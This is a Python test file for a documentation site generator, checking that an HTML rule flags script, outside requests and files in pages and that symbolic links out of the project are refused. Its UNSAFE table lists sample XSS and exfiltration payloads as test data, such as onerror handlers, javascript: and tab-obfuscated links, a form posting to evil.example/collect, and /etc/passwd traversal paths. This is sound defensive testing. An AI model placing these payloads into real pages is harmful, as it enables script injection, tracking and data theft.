"""The one rule for a page's HTML (generator.pages.htmlrule): the editor's pages keep it, every
article of the built site keeps it (the charts' SVG links, the helper and the form tables too), and
each way the editor review found to put script, an outside request or an outside file into a
page's HTML is named; the build stops on it (the second wall, on_page_content). And a symbolic
link is refused only when it leads out of the project (generator.symlinks)."""

from __future__ import annotations

from pathlib import Path
from types import SimpleNamespace

import pytest
from mkdocs.exceptions import PluginError

from generator.pages import htmlrule
from generator.pages.pagecheck import read_pages
from generator.pages.pagehtml import page_html_problems
from generator.symlinks import outside_links
from tests.helpers import ROOT, html_pages, parsed

BASE = "en/about/index.html"  # where the article lives in the site

# What reaches an article's HTML (Markdown rendered, or written raw) -> a piece of what is found
UNSAFE = {
    "attr_list onclick": ('<p onclick="alert(4)">Text</p>', "the attribute onclick="),
    "md_in_html div onclick": ('<div onclick="alert(15)"><p>Text</p></div>', "the attribute onclick="),
    "img onerror": ('<p><img src="x.png" onerror="alert(2)"></p>', "the attribute onerror="),
    "script": ("<script>alert(1)</script>", "the element <script>"),
    "script in capitals": ("<p><SCRIPT >alert(1)</SCRIPT ></p>", "the element <script>"),
    "script from a statistics service": ('<script src="https://stats.example.nl/matomo.js"></script>', "<script>"),
    "iframe of a video service": ('<iframe src="https://www.youtube.com/embed/x"></iframe>', "the element <iframe>"),
    "font service stylesheet": ('<link href="https://fonts.googleapis.com/css2" rel="stylesheet">', "<link>"),
    "style element": ("<style>@import url(https://evil.example/x.css)</style>", "the element <style>"),
    "meta refresh": ('<meta http-equiv="refresh" content="0;url=https://evil.example/">', "the element <meta>"),
    "base": ('<base href="https://evil.example/">', "the element <base>"),
    "object": ('<object data="https://evil.example/x.swf"></object>', "the element <object>"),
    "embed": ('<embed src="https://evil.example/x.swf">', "the element <embed>"),
    "form": ('<form action="https://evil.example/collect"><input name="q"></form>', "the element <form>"),
    "javascript link": ('<a href="javascript:alert(3)">x</a>', "the link 'javascript:alert(3)'"),
    "javascript link, tab inside": ('<a href="jav&#x09;ascript:alert(3)">x</a>', "the link 'jav\\tascript:alert(3)'"),
    "vbscript link": ('<a href="vbscript:msgbox(1)">x</a>', "the link 'vbscript:msgbox(1)'"),
    "data link": ('<a href="data:text/html,x">x</a>', "the link 'data:text/html,x'"),
    "file link": ('<a href="file:///etc/passwd">x</a>', "the link 'file:///etc/passwd'"),
    "link to the site's root": ('<a href="/etc/passwd">x</a>', "the link '/etc/passwd'"),
    "link out of the site": ('<a href="../../../etc/passwd">x</a>', "to a file outside the handbook"),
    "image from another website": ('<img src="https://evil.example/x.png" alt="">', "the image 'https://evil"),
    "image, no scheme": ('<img src="//evil.example/x.png" alt="">', "the image '//evil.example/x.png'"),
    "image as data:": ('<img src="data:image/png;base64,AAAA" alt="">', "the image 'data:image/png"),
    "image set from another website": ('<img src="x.png" srcset="https://evil.example/x.png 2x" alt="">', "image"),
    "image out of the site, %2e": ('<img src="%2e%2e/%2e%2e/%2e%2e/etc/passwd" alt="">', "from outside the handbook"),
    "ping": ('<a href="https://example.org/" ping="https://evil.example/track">x</a>', "ping"),
    "button formaction": (
        '<button formaction="https://evil.example/">x</button>',
        "the address formaction= on <button>",
    ),
    "style with url()": ('<p style="background: url(https://evil.example/x.png)">x</p>', "the style"),
    "svg javascript link": ('<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', "javascript:"),
    "svg image from another website": ('<svg><image href="https://evil.example/x.png"/></svg>', "https://evil"),
    "svg set": ('<svg><a href="#x"><set attributeName="href" to="javascript:alert(1)"/></a></svg>', "<set>"),
    "svg animate": ('<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>', "<animate>"),
    "svg foreignObject": ("<svg><foreignObject><iframe></iframe></foreignObject></svg>", "<foreignobject>"),
    "srcdoc": ('<div srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;">x</div>', "srcdoc"),
}

SAFE = {
    "a chart's node link": (
        '<svg class="flowchart" style="--fc-width: 384pt" viewbox="0 0 8 8">'
        '<g><a href="#m-receive"><polygon points="0,0"/></a></g></svg>'
    ),
    "links of every allowed kind": (
        '<a href="../roles/mentor/#m-receive">a</a> <a href="https://example.org/">b</a> '
        '<a href="mailto:info@example.nl?subject=%3Cscript%3E">c</a> <a href="tel:0800-0432">d</a> <a href="#top">e</a>'
    ),
    "an image of the handbook": '<img src="../../assets/logo.png" alt="logo">',
    "a form table": '<table><tr><td><label for="f">x</label><input id="f" name="f" type="text"></td></tr></table>',
    "the helper": (
        '<details class="wn"><summary>Student</summary><button type="button" data-action="x">Ja</button></details>'
    ),
}


@pytest.mark.parametrize("case", UNSAFE)
def test_each_way_into_a_pages_html_is_named_by_the_rule(case):
    html, piece = UNSAFE[case]
    found = htmlrule.findings(html, BASE)
    assert found and piece in found[0].found, found


@pytest.mark.parametrize("case", SAFE)
def test_what_the_site_itself_puts_in_an_article_keeps_the_rule(case):
    assert htmlrule.findings(SAFE[case], BASE) == []


def test_the_editors_pages_hold_no_html_and_only_safe_links():
    pages, _ = read_pages(ROOT / "docs")
    assert page_html_problems(pages, ROOT) == []


def test_every_article_of_the_built_site_keeps_the_rule(built_site):
    checked = 0
    for path in html_pages(built_site):
        article = parsed(path).select_one("article")
        if article is None or path.name == "404.html":  # a 404 page is a template, not an article
            continue
        dest = path.relative_to(built_site).as_posix()
        assert htmlrule.findings(article.decode_contents(), dest) == [], dest
        checked += 1
    assert checked >= 50


def test_the_build_stops_on_an_article_that_breaks_the_rule():
    from generator.site import hooks

    page = SimpleNamespace(file=SimpleNamespace(src_uri="en/about.md", dest_uri=BASE))
    config = SimpleNamespace(docs_dir=str(ROOT / "docs"))
    with pytest.raises(PluginError) as refused:
        hooks.on_page_content('<p>Text</p><iframe src="https://evil.example/"></iframe>', page, config, None)
    assert "docs/en/about.md: the page's HTML: found the element <iframe>" in str(refused.value)


def test_a_comment_or_marker_passes_and_html_in_code_is_code():
    from generator.pages.pagecheck import Page

    text = "# T\n\n<!-- protocol:version -->\n\nA `<script>` and <!-- a note -->.\n\n    <iframe></iframe>\n"
    assert page_html_problems([Page("en/x.md", "docs/en/x.md", text)], ROOT) == []


# ---------------------------------------------------------------- symbolic links


def test_a_link_to_a_file_of_the_project_is_fine_and_one_out_of_it_is_named(tmp_path: Path):
    project, outside = tmp_path / "project", tmp_path / "outside.txt"
    outside.write_text("secret", encoding="utf-8")
    (project / "docs" / "assets").mkdir(parents=True)
    (project / "protocol").mkdir()
    (project / "protocol" / "shared.yml").write_text("a: 1\n", encoding="utf-8")
    (project / "docs" / "assets" / "inside.yml").symlink_to(project / "protocol" / "shared.yml")
    assert outside_links(project) == []
    (project / "protocol" / "linked").symlink_to(project / "docs" / "assets")  # a folder of the project
    (project / "docs" / "assets" / "secret.txt").symlink_to(outside)
    found = [str(p) for p in outside_links(project)]
    assert found == [
        f"docs/assets/secret.txt: (symbolic link): found a link to {outside}, outside the project; "
        "expected a file of the project (copy the file into the project instead of linking to it)"
    ]


def test_an_input_folder_linked_out_of_the_project_is_named(tmp_path: Path):
    project = tmp_path / "project"
    project.mkdir()
    (tmp_path / "elsewhere").mkdir()
    (project / "overrides").symlink_to(tmp_path / "elsewhere")
    assert [p.file for p in outside_links(project)] == ["overrides"]
